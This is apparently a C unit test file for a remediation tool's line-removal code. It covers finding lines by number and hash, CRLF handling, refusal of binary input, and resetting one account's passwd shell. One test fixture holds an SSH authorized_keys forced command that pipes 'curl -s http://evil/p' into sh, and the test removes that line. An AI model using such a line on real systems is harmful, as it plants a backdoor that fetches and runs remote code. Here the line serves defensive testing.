/*
 * test_respond_remove_text.c — the line editing of `respond remove`
 * (remove_text.h): a line is found by number and hash, moved lines are
 * found again, absent and ambiguous lines are refused, CRLF and a missing
 * final newline survive, very long lines work, binary junk is refused with
 * a message naming the file and line, and the passwd shell field is
 * replaced for exactly one account.
 */
#include "testutil.h"
#include "core/digest.h"
#include "respond/remove_text.h"

#include <stdlib.h>
#include <string.h>

static char *sha(const char *s)
{
	static char hex[65];
	rs_sha256_hex(s, strlen(s), hex);
	return hex;
}

static void expect_drop(const char *text, const size_t *numbers, size_t n, const char *want)
{
	size_t out_len;
	char *out = rs_rmtext_drop(text, strlen(text), numbers, n, &out_len);
	assert_int_equal(out_len, strlen(want));
	assert_string_equal(out, want);
	free(out);
}

static void test_drop(void **state)
{
	(void)state;
	size_t two[] = { 2 }, one[] = { 1 }, both[] = { 3, 1 }, beyond[] = { 9 };
	expect_drop("a\nb\nc\n", two, 1, "a\nc\n");
	expect_drop("a\nb\nc\n", both, 2, "b\n");
	expect_drop("a\nb", two, 1, "a\n");           /* no final newline: the line before keeps its own */
	expect_drop("a\nb", one, 1, "b");             /* ... and the kept last line stays unended */
	expect_drop("a\r\nb\r\n", one, 1, "b\r\n");   /* CRLF kept */
	expect_drop("a\n", one, 1, "");
	expect_drop("a\nb\n", beyond, 1, "a\nb\n");
	expect_drop("", one, 1, "");
	expect_drop("\n\n\n", two, 1, "\n\n");        /* empty lines count */
}

static void test_find(void **state)
{
	(void)state;
	char err[512];
	const char *text = "x\nkeep\nevil\nkeep\n";
	assert_int_equal(rs_rmtext_find(text, strlen(text), 3, sha("evil"), "/f", err, sizeof(err)), 3);
	/* moved: the one line with that hash */
	assert_int_equal(rs_rmtext_find(text, strlen(text), 1, sha("evil"), "/f", err, sizeof(err)), 3);
	/* duplicated: at its number it is unambiguous */
	assert_int_equal(rs_rmtext_find(text, strlen(text), 4, sha("keep"), "/f", err, sizeof(err)), 4);
	/* duplicated and not at its number: refused */
	err[0] = '\0';
	assert_int_equal(rs_rmtext_find(text, strlen(text), 1, sha("keep"), "/f", err, sizeof(err)), 0);
	assert_non_null(strstr(err, "/f: line 1 is not the line"));
	assert_non_null(strstr(err, "ambiguous"));
	/* absent */
	assert_int_equal(rs_rmtext_find(text, strlen(text), 3, sha("gone"), "/f", err, sizeof(err)), 0);
	assert_non_null(strstr(err, "no longer in the file"));
	/* no hash at all */
	assert_int_equal(rs_rmtext_find(text, strlen(text), 3, NULL, "/f", err, sizeof(err)), 0);
	assert_non_null(strstr(err, "SHA-256"));
	assert_int_equal(rs_rmtext_find(text, strlen(text), 3, "abc", "/f", err, sizeof(err)), 0);
	/* CRLF: the '\r' is part of the line's bytes */
	const char *crlf = "a\r\nb\r\n";
	assert_int_equal(rs_rmtext_find(crlf, strlen(crlf), 2, sha("b\r"), "/f", err, sizeof(err)), 2);
	assert_int_equal(rs_rmtext_find(crlf, strlen(crlf), 2, sha("b"), "/f", err, sizeof(err)), 0);
	/* the last line without newline */
	assert_int_equal(rs_rmtext_find("a\nb", 3, 2, sha("b"), "/f", err, sizeof(err)), 2);
}

/* Two authorized_keys lines with one key blob: the exact line (options too) goes. */
static void test_same_key_blob(void **state)
{
	(void)state;
	const char *plain = "ssh-ed25519 AAAAKEY admin@laptop";
	const char *forced = "command=\"curl -s http://evil/p | sh\",no-pty ssh-ed25519 AAAAKEY backup";
	char *text = rs_sprintf("%s\n%s\n", plain, forced);
	char err[512];
	size_t at = rs_rmtext_find(text, strlen(text), 2, sha(forced), "/root/.ssh/authorized_keys", err,
				   sizeof(err));
	assert_int_equal(at, 2);
	size_t out_len;
	char *out = rs_rmtext_drop(text, strlen(text), &at, 1, &out_len);
	char *want = rs_sprintf("%s\n", plain);
	assert_string_equal(out, want);
	free(want);
	free(out);
	free(text);
}

static void test_long_line(void **state)
{
	(void)state;
	size_t n = 1u << 20;
	char *text = malloc(n + 16);
	memcpy(text, "ok\n", 3);
	memset(text + 3, 'x', n);
	memcpy(text + 3 + n, "\nend\n", 6);
	size_t len = strlen(text);
	char hex[65], err[512];
	rs_sha256_hex(text + 3, n, hex);
	assert_int_equal(rs_rmtext_check(text, len, "/f", err, sizeof(err)), 0);
	size_t at = rs_rmtext_find(text, len, 2, hex, "/f", err, sizeof(err));
	assert_int_equal(at, 2);
	size_t out_len;
	char *out = rs_rmtext_drop(text, len, &at, 1, &out_len);
	assert_string_equal(out, "ok\nend\n");
	free(out);
	free(text);
}

static void test_binary_refused(void **state)
{
	(void)state;
	char err[512];
	const char junk[] = "ok\n\x7f" "ELF\x01\x02\x00\x00\xff\n";
	assert_int_equal(rs_rmtext_check(junk, sizeof(junk) - 1, "/etc/crontab", err, sizeof(err)), -1);
	assert_non_null(strstr(err, "/etc/crontab:2: holds a NUL byte"));
	/* high bytes without NUL are text (Latin-1 comments) */
	const char latin[] = "# caf\xe9\nx\n";
	assert_int_equal(rs_rmtext_check(latin, sizeof(latin) - 1, "/f", err, sizeof(err)), 0);
	assert_int_equal(rs_rmtext_check("", RS_REMOVE_TEXT_MAX + 1ul, "/big", err, sizeof(err)), -1);
	assert_non_null(strstr(err, "/big:"));
}

static void test_replace(void **state)
{
	(void)state;
	size_t out_len;
	char *out = rs_rmtext_replace("a\nb\nc", 5, 3, "Z", 1, &out_len);
	assert_string_equal(out, "a\nb\nZ");
	free(out);
	out = rs_rmtext_replace("a\nb\n", 4, 1, "", 0, &out_len);
	assert_string_equal(out, "\nb\n");
	free(out);
	assert_null(rs_rmtext_replace("a\n", 2, 2, "Z", 1, &out_len));
}

static void test_passwd_shell(void **state)
{
	(void)state;
	const char *pw = "root:x:0:0:root:/root:/bin/bash\nsshd:x:119:65534::/run/sshd:/usr/sbin/nologin\n"
			 "sshd2:x:120:65534::/run/sshd:/bin/bash\r\n";
	size_t number;
	char *old = NULL, *line = NULL, err[512];
	assert_int_equal(rs_rmtext_passwd_shell(pw, strlen(pw), "sshd2", "/usr/sbin/nologin", &number, &old, &line,
					       err, sizeof(err)), 0);
	assert_int_equal(number, 3);
	assert_string_equal(old, "/bin/bash");
	assert_string_equal(line, "sshd2:x:120:65534::/run/sshd:/usr/sbin/nologin\r");
	free(old);
	free(line);
	/* "sshd" is not a prefix match of "sshd2" */
	assert_int_equal(rs_rmtext_passwd_shell(pw, strlen(pw), "sshd", "/x", &number, &old, &line, err,
					       sizeof(err)), 0);
	assert_int_equal(number, 2);
	free(old);
	free(line);
	assert_int_equal(rs_rmtext_passwd_shell(pw, strlen(pw), "nobody", "/x", &number, &old, &line, err,
					       sizeof(err)), -1);
	assert_non_null(strstr(err, "no line for the account nobody"));
	const char *dup = "a:x:1:1::/:/bin/sh\na:x:2:2::/:/bin/sh\n";
	assert_int_equal(rs_rmtext_passwd_shell(dup, strlen(dup), "a", "/x", &number, &old, &line, err,
					       sizeof(err)), -1);
	assert_non_null(strstr(err, "two lines"));
	const char *short_line = "a:x:1:1::/\n";
	assert_int_equal(rs_rmtext_passwd_shell(short_line, strlen(short_line), "a", "/x", &number, &old, &line,
					       err, sizeof(err)), -1);
	assert_non_null(strstr(err, "has 6 fields, not 7"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_drop),
		cmocka_unit_test(test_find),
		cmocka_unit_test(test_same_key_blob),
		cmocka_unit_test(test_long_line),
		cmocka_unit_test(test_binary_refused),
		cmocka_unit_test(test_replace),
		cmocka_unit_test(test_passwd_shell),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
